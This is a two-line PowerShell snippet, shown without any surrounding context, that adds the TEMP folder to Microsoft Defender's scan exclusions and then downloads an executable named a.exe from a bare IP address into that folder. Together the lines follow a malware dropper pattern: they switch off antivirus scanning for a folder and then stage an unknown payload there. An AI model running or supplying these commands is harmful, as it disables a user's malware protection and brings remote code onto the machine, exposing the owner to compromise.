Add-MpPreference -ExclusionPath $env:TEMP
Invoke-WebRequest -Uri "http://192.0.2.9/a.exe" -OutFile "$env:TEMP\a.exe"
